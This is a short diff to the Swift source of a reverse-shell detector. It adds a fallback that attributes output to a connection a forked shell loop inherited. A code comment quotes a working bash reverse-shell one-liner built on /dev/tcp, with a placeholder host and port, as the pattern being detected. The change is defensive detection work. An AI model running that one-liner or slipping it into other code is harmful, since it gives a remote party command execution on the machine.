@@ -180,8 +180,10 @@ public struct ReverseShellDetector: Detector {
         }
         // `exec 5<>/dev/tcp/h/p; cat <&5 | while read l; do $l >&5 2>&5; done`: the loop (a subshell)
         // reads the connection through cat and each command it runs writes to that same peer.
-        if let known = input, output == nil, let commandOutput = ev.childOutput(of: proc, to: known) {
-            output = commandOutput
+        // The commands often finish before capture can read them; but the loop is a fork of the
+        // shell that opened the connection, so it holds that connection too (inherited at fork).
+        if let known = input, output == nil {
+            output = ev.childOutput(of: proc, to: known) ?? ev.inheritedConnection(of: proc, to: known)
         }
         let launch = launchFor(proc, context: context)
         if input == nil || output == nil, let launch {
